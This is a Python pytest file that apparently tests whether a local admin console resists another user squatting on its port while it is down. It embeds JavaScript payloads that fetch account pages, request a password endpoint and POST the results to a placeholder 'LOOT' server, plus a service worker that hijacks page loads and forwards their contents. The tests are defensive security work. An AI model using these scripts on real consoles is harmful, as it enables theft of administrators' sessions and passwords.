"""A colleague's program that has the console's port while the bridge is away, and what it leaves in a browser.

The browser keeps what it is told to keep under the console's address, and uses it when the bridge is back.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.e2e.bridge import Bridge
from tests.e2e.conftest import ALICE, World
from tests.e2e.test_browser import administrators_link, sign_in
from tests.servers.needed import absent
from tests.servers.os_user import OsUser

try:
    from playwright.sync_api import Browser, Page
except ImportError:  # pragma: no cover
    absent("playwright")

pytestmark = [pytest.mark.servers, pytest.mark.browser]

STEAL = """
const tell = text => fetch("LOOT", {method: "POST", mode: "no-cors", body: text});
async function steal() {
  const page = await (await fetch("/accounts/ALICE")).text();
  const form = page.match(/name="form" value="([0-9a-f]+)"/)[1];
  await tell(page);
  const answer = await fetch("/accounts/ALICE/password", {method: "POST", body: new URLSearchParams({form})});
  await tell(await answer.text());
}
"""
"""What a script under the console's address can do with the session of the administrator's browser."""

SCRIPT = f"{STEAL}\nsteal().catch(() => null);"

WORKER = f"""{STEAL}
addEventListener("install", () => skipWaiting());
addEventListener("activate", event => event.waitUntil(prepare()));
addEventListener("fetch", event => {{
  if (event.request.mode === "navigate") event.respondWith(HOW);
}});
async function prepare() {{
  if (`HOW`.includes("preload")) await registration.navigationPreload.enable();
  await clients.claim();
}}
async function read(url) {{
  const answer = await fetch(url, {{credentials: "include"}}).catch(() => new Response(""));
  const text = await answer.text();
  await tell(text);
  await steal().catch(() => null);
  return new Response(text || "A page of the colleague's", {{headers: {{"Content-Type": "text/html"}}}});
}}
"""
"""Gets each page in the browser's place, and shows what it likes."""

REPLACED = """navigator.serviceWorker.getRegistration().then(found => found && new Promise(done => {
  found.active.onstatechange = event => { if (event.target.state === "redundant") done(); };
}))"""
"""Settled once the worker that shows this page is no longer the one for the next."""

PAGE = """<!doctype html><title>fake</title><link rel="stylesheet" href="/style.css"><script src="/console.js"></script>
<script>
if (WANTED) navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "settled"; });
else onload = () => { document.title = "settled"; };
</script>"""


class Squatter(ThreadingHTTPServer):
    """Listens at the console's port, or waits for what its scripts send."""

    daemon_threads = True

    def __init__(self, user: OsUser, port: int, answers: dict[str, tuple[str, str]]) -> None:
        super().__init__(("127.0.0.1", port), _Answer, bind_and_activate=False)
        self.socket.close()
        self.socket = user.open_socket(socket.AF_INET)
        self.server_bind()
        self.server_activate()
        self.answers = answers
        self.loot: list[str] = []


class _Answer(BaseHTTPRequestHandler):
    server: Squatter

    def do_GET(self) -> None:
        kind, text = self.server.answers.get(self.path, ("text/plain", ""))
        self.send_response(200 if text else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        self.send_header("Cache-Control", "public, max-age=31536000, immutable")
        self.end_headers()
        self.wfile.write(text.encode())

    def do_POST(self) -> None:
        self.server.loot.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@contextmanager
def squatting(user: OsUser, port: int, answers: dict[str, tuple[str, str]]) -> Iterator[Squatter]:
    with Squatter(user, port, answers) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def loot(colleague: OsUser) -> Iterator[Squatter]:
    with squatting(colleague, 0, {}) as server:
        yield server


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context(ignore_https_errors=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    yield page
    context.close()


def visited(page: Page, bridge: Bridge, colleague: OsUser, loot: Squatter, worker: str = "") -> None:
    """The browser opens the console's address while the colleague has its port; then the bridge is back."""
    where = f"http://localhost:{loot.server_port}/"
    script, code = (text.replace("LOOT", where).replace("ALICE", ALICE) for text in (SCRIPT, worker))
    answers = {
        "/": ("text/html", PAGE.replace("WANTED", "true" if worker else "false")),
        "/console.js": ("text/javascript", script),
        "/style.css": ("text/css", "body {}"),
        "/worker.js": ("text/javascript", code),
    }
    bridge.stop()
    with squatting(colleague, bridge.console_port, answers):
        page.goto(f"http://localhost:{bridge.console_port}/")
        page.wait_for_function("document.title === 'settled'")
    bridge.start()


def sees_the_list(page: Page) -> bool:
    return ALICE in page.inner_text("main ul.accounts")


def test_what_the_browser_was_told_to_keep_is_not_shown_to_the_administrator(
    fresh: Bridge, page: Page, colleague: OsUser, loot: Squatter
) -> None:
    visited(page, fresh, colleague, loot)
    page.goto(administrators_link(fresh))
    assert page.title() != "fake"
    assert sees_the_list(page)
    page.click(f"a:text-is('{ALICE}')")
    page.click("text=Show it")
    assert page.inner_text(".password") == fresh.password(ALICE)
    assert not any(ALICE in text for text in loot.loot)


def test_a_page_that_is_still_open_gets_neither_passwords_nor_whose_programs_wait(
    fresh: Bridge, page: Page, colleague: OsUser, loot: Squatter
) -> None:
    """It is in another tab when the administrator opens the console; to the browser it is the console's."""
    visited(page, fresh, colleague, loot)
    console = page.context.new_page()
    console.goto(administrators_link(fresh))
    assert sees_the_list(console)
    assert page.title() == "settled"
    page.evaluate("steal().catch(() => null)")
    assert not any(fresh.password(ALICE) in text for text in loot.loot)
    asked = """fetch("/mine", {headers: {"X-Mail-Bridge": "tray"}}).then(answer => answer.status)"""
    assert page.evaluate(asked) == 404


@pytest.mark.parametrize(
    "how",
    [
        "read(event.request.url)",
        "fetch(event.request)",
        "event.preloadResponse.then(() => read(event.request.url))",  # the browser has asked for the page itself
    ],
)
def test_a_service_worker_gets_no_administrators_session(
    fresh: Bridge, page: Page, colleague: OsUser, loot: Squatter, how: str
) -> None:
    visited(page, fresh, colleague, loot, WORKER.replace("HOW", how))
    link = administrators_link(fresh)
    page.goto(link)
    page.goto(link)
    assert sees_the_list(page)
    assert not any(ALICE in text for text in loot.loot)
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


def test_a_service_worker_is_not_in_the_way_of_a_sign_in(
    fresh: Bridge, world: World, page: Page, colleague: OsUser, loot: Squatter
) -> None:
    visited(page, fresh, colleague, loot, WORKER.replace("HOW", "fetch(event.request)"))
    sign_in(page, fresh, ALICE, ALICE)
    assert page.inner_text("h1").strip() == "You are signed in"
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


def test_a_service_worker_that_shows_its_own_pages_is_gone_after_one_of_them(
    fresh: Bridge, page: Page, colleague: OsUser, loot: Squatter
) -> None:
    """Neither the administrator's link nor a sign-in has had the browser drop it. The browser asks for its script anew
    after each page."""
    visited(page, fresh, colleague, loot, WORKER.replace("HOW", 'new Response("A page of the colleague\'s")'))
    sign_in_page = f"http://localhost:{fresh.console_port}/sign-in/{ALICE}"
    page.goto(sign_in_page)
    assert page.inner_text("body") == "A page of the colleague's"
    page.evaluate(REPLACED)
    page.goto(sign_in_page)
    assert page.inner_text("h1") == "Sign in"
